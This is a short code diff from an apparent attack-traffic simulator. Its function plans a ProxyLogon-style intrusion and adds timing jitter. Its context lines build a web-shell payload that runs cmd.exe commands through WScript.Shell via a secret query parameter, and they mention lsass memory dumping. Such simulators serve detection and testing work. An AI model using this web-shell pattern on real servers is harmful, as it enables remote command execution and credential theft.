@@ -263,7 +263,7 @@ export function planProxyLogon(input: PlanInput): AttackPlan {
   let lsassTime = 0;
   let rarTime = 0;
   for (const cmd of commands) {
-    t += rng.range(40, 1500) * 1000;
+    t += rng.range(40, 1500) * 1000 + rng.int(1000);
     const js = cmd === null ? '' : `Response.Write(new ActiveXObject("WScript.Shell").Exec("cmd.exe /c ${cmd.replace(/"/g, '\\"')}").StdOut.ReadAll());`;
     const query = cmd === null ? '' : `${secret}=${encodeURIComponent(js).replace(/'/g, '%27')}`;
     const dur = rng.range(90, 2500) + (cmd?.includes('MiniDump') ? 9000 : 0);
